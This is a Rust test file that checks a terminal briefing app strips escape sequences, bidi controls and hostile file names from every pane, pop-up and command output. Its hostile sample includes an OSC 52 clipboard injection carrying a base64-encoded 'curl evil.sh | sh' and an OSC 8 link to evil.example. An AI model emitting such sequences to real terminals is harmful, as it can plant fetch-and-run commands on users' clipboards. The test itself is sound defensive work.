//! Text from files is untrusted: terminal escape sequences (CSI, OSC 52 clipboard, OSC 8 links,
//! OSC 0/2 titles, DCS), C1 controls, BEL and bidi controls must never reach the terminal raw.
//! This drives a briefing full of them, with a hostile file name, through the model, every
//! dashboard pane and pop-up, and every headless command in both output formats.

#[path = "common/cli.rs"]
mod cli;
mod common;

use std::path::{Path, PathBuf};

use briefdeck::keys::{Action, Pane};
use briefdeck::library::{LoadOptions, load_paths};
use briefdeck::tui::App;
use common::screen;

/// Every kind of sequence, in the title, a heading, a paragraph and a takeaway list.
const HOSTILE: &str = "Rome \x1b]0;PWNED-TITLE\x07and Tokyo\x1b[2J sign an accord\n\n\
By Jane \x1b[31mDoe\x1b[0m\n\n\
Rome and Tokyo agreed on GCAP \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 cooperation \
\x1b]8;;http://evil.example\x1b\\click here\x1b]8;;\x1b\\ and more \x1bP1$qm\x1b\\ text, with \
\u{9b}31m C1 CSI \u{9d}0;t\u{9c} and a bell \x07 and \u{202e}reversed\u{202c} and \u{2066}isolates\u{2069}.\n\n\
Key takeaways:\n\
- Japan \x1b[5mblinks\x1b[0m as Italy's partner on GCAP.\n\
- A second \u{200f}point\u{200e} with \x1b]2;TITLE2\x1b\\ titles.\n";

/// A character that must not appear in anything shown to a terminal.
fn dangerous(c: char) -> bool {
    (c.is_control() && c != '\n')
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}' | '\u{061c}')
}

fn assert_clean(what: &str, text: &str) {
    if let Some(c) = text.chars().find(|&c| dangerous(c)) {
        panic!("{what}: {c:?} reached the output:\n{text}");
    }
    for payload in [
        "PWNED",
        "Y3VybCBldmlsLnNoIHwgc2g",
        "evil.example",
        "TITLE2",
        "1$qm",
    ] {
        assert!(
            !text.contains(payload),
            "{what}: sequence payload {payload:?} left:\n{text}"
        );
    }
}

fn hostile_dir() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("brief\x1b]0;NAME\x07\u{202e}.txt");
    std::fs::write(&file, HOSTILE).unwrap();
    // A skipped file with a hostile name, so warnings quote one too.
    std::fs::write(dir.path().join("empty\x1b[2J\u{9b}6n.txt"), "").unwrap();
    (dir, file)
}

#[test]
fn the_model_is_clean() {
    let (dir, _) = hostile_dir();
    let corpus = load_paths(&[dir.path().to_path_buf()], &LoadOptions::default()).unwrap();
    let d = &corpus.documents[0];
    assert_eq!(d.title, "Rome and Tokyo sign an accord");
    assert_eq!(d.byline.as_deref(), Some("Jane Doe"));
    let all = serde_json::to_string(&corpus.documents).unwrap();
    assert_clean("model", &all);
    assert!(
        !all.contains("\\u001b") && !all.contains("\\u0007"),
        "JSON escapes nothing dangerous"
    );
    assert_eq!(d.takeaways.len(), 2);
    for n in &corpus.notices {
        assert_clean("notice", &n.to_string());
    }
    assert!(corpus.notices.iter().any(|n| n.path.contains("empty")));
}

#[test]
fn every_pane_and_popup_renders_clean() {
    let (dir, _) = hostile_dir();
    let corpus = load_paths(&[dir.path().to_path_buf()], &LoadOptions::default()).unwrap();
    let views: &[(&str, &[Action])] = &[
        ("list", &[]),
        ("reader", &[Action::Focus(Pane::Reader), Action::Bottom]),
        (
            "takeaways",
            &[Action::Focus(Pane::Takeaways), Action::Activate],
        ),
        ("linked", &[Action::Focus(Pane::Links)]),
        ("help", &[Action::ToggleHelp]),
        ("notices", &[Action::ToggleNotices]),
        ("themes", &[Action::ToggleThemes]),
        ("zoom", &[Action::ToggleZoom]),
        (
            "filter",
            &[
                Action::FilterStart,
                Action::FilterInsert('g'),
                Action::FilterInsert('c'),
            ],
        ),
    ];
    for (w, h) in [(120, 40), (90, 30), (60, 20)] {
        for (name, actions) in views {
            let mut app = App::new(corpus.clone(), w, h);
            app.update(Action::Resize(w, h));
            for a in *actions {
                app.update(*a);
            }
            assert_clean(&format!("{name} at {w}x{h}"), &screen(&app));
        }
    }
}

fn run(args: &[&str], dir: &Path) -> (String, String) {
    let out = cli::Home::new().command(args).arg(dir).output().unwrap();
    (
        String::from_utf8(out.stdout).expect("UTF-8 stdout"),
        String::from_utf8(out.stderr).expect("UTF-8 stderr"),
    )
}

#[test]
fn every_headless_command_prints_clean() {
    let (dir, file) = hostile_dir();
    let show = file.to_str().unwrap().to_string();
    let commands: Vec<Vec<&str>> = vec![
        vec!["list"],
        vec!["takeaways"],
        vec!["themes"],
        vec!["links"],
        vec!["filter", "gcap"],
        vec!["show", &show],
    ];
    for cmd in &commands {
        for json in [false, true] {
            let mut args = cmd.clone();
            if json {
                args.push("--json");
            }
            let (stdout, stderr) = run(&args, dir.path());
            assert_clean(&format!("{args:?} stdout"), &stdout);
            assert_clean(&format!("{args:?} stderr"), &stderr);
            if cmd[0] == "list" {
                assert!(stdout.contains("Rome and Tokyo sign an accord"), "{stdout}");
                assert!(
                    stderr.contains("skipped") && stderr.contains("empty"),
                    "{stderr}"
                );
            }
        }
    }
    // An error message quoting a hostile path that does not exist.
    let (_, stderr) = run(&["list"], &dir.path().join("missing\x1b]0;X\x07"));
    assert_clean("missing-path error", &stderr);
    assert!(stderr.contains("no such file"));
}
